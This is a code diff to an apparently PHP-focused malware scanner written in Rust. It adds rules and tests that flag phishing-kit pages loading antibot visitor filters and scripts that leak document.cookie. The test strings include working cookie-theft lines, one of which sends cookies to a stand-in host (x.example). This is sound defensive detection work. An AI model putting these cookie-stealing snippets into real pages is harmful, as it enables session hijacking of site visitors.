@@ -66,6 +66,22 @@ static HANDLER_WORDS: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i-u)\b(?:AddHandler|SetHandler|AddType|ExecCGI|ForceType)\b").expect("pattern compiles")
 });
 
+/// A file of a phishing kit's visitor filter, by its name (`antibot.php`, `anti/anti3.php`,
+/// `blocker.php`, `Bots/…`, `blacklist.php`).
+static ANTIBOT_PATH: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)(?:^|[/\\._-])(?:anti-?bots?|anti\d*\.php|blocker|bots?[/\\-]|blacklist)")
+        .expect("pattern compiles")
+});
+
+/// The visitor's cookies put into an address the browser then loads (a cookie thief).
+static COOKIE_SENT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r#"(?i-u)(?:location(?:\.href)?\s*=|\.src\s*=|open\s*\()\s*\\?["'][^"'<>]{1,200}\\?["']\s*\+\s*"#,
+        r#"(?:escape\s*\(\s*|encodeURIComponent\s*\(\s*)?document\.cookie"#,
+    ))
+    .expect("pattern compiles")
+});
+
 /// Functions that check who logs in (a real login, a reset link, a signed request).
 const LOGIN_CHECKS: &[&[u8]] = &[
     b"wp_check_password",
@@ -121,6 +137,18 @@ pub(super) fn analyze(text: &[u8], t: &[Token<'_>], o: Options) -> Vec<Shape> {
     {
         out.push(Shape { why: Why::PlantsServerConfig, danger: Danger::High, at });
     }
+    // A phishing kit's page that loads the kit's visitor filter first.
+    if let Some(at) = f.antibot_include
+        && (f.antibot_includes >= 2 || f.visitor_read || f.foreign_redirect)
+    {
+        let danger = if f.antibot_includes >= 2 { Danger::High } else { Danger::Medium };
+        out.push(Shape { why: Why::PhishingBotFilter, danger, at });
+    }
+    if memchr::memmem::find(text, b"document.cookie").is_some()
+        && let Some(m) = COOKIE_SENT.find(text)
+    {
+        out.push(Shape { why: Why::StealsCookies, danger: Danger::High, at: m.start() });
+    }
     if let Some(at) = f.top_level_login
         && !f.login_checked
     {
@@ -153,6 +181,11 @@ struct Facts {
     loops: bool,
     /// A literal that, as an `.htaccess`, makes files run that should not.
     handler_literal: Option<usize>,
+    /// Includes of the kit's visitor filter files (`ANTIBOT_PATH`), and the first.
+    antibot_includes: u8,
+    antibot_include: Option<usize>,
+    /// The visitor's address or browser read.
+    visitor_read: bool,
 }
 
 /// The most variables holding credentials that are followed.
@@ -186,6 +219,18 @@ fn facts(text: &[u8], t: &[Token<'_>]) -> Facts {
                     f.stops = true;
                 }
                 f.loops |= low(b"for") || low(b"foreach") || low(b"while");
+                if low(b"include") || low(b"include_once") || low(b"require") || low(b"require_once") {
+                    // The literal parts of the path (`__DIR__ . '/anti/a1.php'`).
+                    let path = t[i + 1..t.len().min(i + 8)]
+                        .iter()
+                        .take_while(|x| !is_op(Some(x), b";") && !matches!(x.tok, Tok::Close))
+                        .filter_map(str_value);
+                    if path.into_iter().any(|p| p.len() <= 256 && ANTIBOT_PATH.is_match(p)) {
+                        f.antibot_includes = f.antibot_includes.saturating_add(1);
+                        f.antibot_include.get_or_insert(tok.at);
+                    }
+                    continue;
+                }
                 let method = i > 0 && matches!(t[i - 1].tok, Tok::Op(b"->" | b"::" | b"?->"));
                 if method || !is_op(t.get(i + 1), b"(") {
                     continue;
@@ -214,6 +259,10 @@ fn facts(text: &[u8], t: &[Token<'_>]) -> Facts {
                         budget.args(t, i + 1).first().and_then(|a| a.first()).and_then(str_value).map(is_foreign);
                     f.foreign_redirect |= first.unwrap_or(false);
                 }
+            }
+            Tok::Var(b"_SERVER") if !f.visitor_read => {
+                let key = t.get(i + 2).and_then(str_value);
+                f.visitor_read = key.is_some_and(|k| k == b"REMOTE_ADDR" || k == b"HTTP_USER_AGENT");
             }
             Tok::Str { value, vars, .. } | Tok::Backtick { value, vars } => {
                 if value.len() > 4096 {
@@ -483,6 +532,11 @@ mod tests {
     use super::*;
     use crate::sweep::php;
 
+    fn whys_of(src: &str) -> Vec<(Why, Danger)> {
+        let t = php::tokenize(src.as_bytes(), 100_000);
+        analyze(src.as_bytes(), &t, Options { small: t.len() < 400 }).into_iter().map(|s| (s.why, s.danger)).collect()
+    }
+
     fn found(src: &str) -> Vec<Why> {
         let t = php::tokenize(src.as_bytes(), 100_000);
         analyze(src.as_bytes(), &t, Options { small: t.len() < 400 }).into_iter().map(|s| s.why).collect()
@@ -639,6 +693,36 @@ mod tests {
         assert!(found(version).is_empty());
     }
 
+    #[test]
+    fn a_page_loading_a_kits_visitor_filter_is_found() {
+        let two = "<?php include 'filters/anti2.php'; require_once('./guard/blocker.php'); ?><html>Sign in</html>";
+        assert_eq!(found(two), [Why::PhishingBotFilter]);
+        let one = "<?php require 'Bots/check.php'; $ip = $_SERVER['REMOTE_ADDR']; header('Location: step2.php');";
+        assert_eq!(whys_of(one), [(Why::PhishingBotFilter, Danger::Medium)]);
+    }
+
+    #[test]
+    fn an_applications_includes_are_not_a_visitor_filter() {
+        // Words inside names, and a spam filter's class loaded without reading the visitor.
+        let app = "<?php require 'lib/antispam.php'; include 'robotstxt.php'; include 'inc/blacklist.php'; echo 'ok';";
+        assert!(found(app).is_empty());
+    }
+
+    #[test]
+    fn a_script_sending_the_visitors_cookies_away_is_found() {
+        let src = "<?php echo \"<script>document.location='log.php?c='+document.cookie;</script>\";";
+        assert_eq!(found(src), [Why::StealsCookies]);
+        let img = "<script>new Image().src = 'https://x.example/c.gif?d=' + escape(document.cookie);</script><?php ?>";
+        assert_eq!(found(img), [Why::StealsCookies]);
+    }
+
+    #[test]
+    fn reading_or_setting_cookies_in_script_is_not_theft() {
+        let consent = "<script>if (document.cookie.indexOf('ok=1') < 0) { location.href = '/consent?back=' + location.pathname; }\
+                       document.cookie = 'ok=1; path=/';</script><?php ?>";
+        assert!(found(consent).is_empty());
+    }
+
     /// The own-written fixtures of these families (the integration test sweeps them all) are
     /// reported for their family through `detect::judge`.
     #[test]
@@ -678,6 +762,16 @@ mod tests {
                 "writes_cgi_handler_htaccess.php",
                 include_str!("../../../tests/fixtures/sweep/malicious/writes_cgi_handler_htaccess.php"),
                 Why::PlantsServerConfig,
+            ),
+            (
+                "kit_page_loads_visitor_filter.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/kit_page_loads_visitor_filter.php"),
+                Why::PhishingBotFilter,
+            ),
+            (
+                "cookie_thief_redirect.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/cookie_thief_redirect.php"),
+                Why::StealsCookies,
             ),
         ];
         for (name, src, why) in cases {
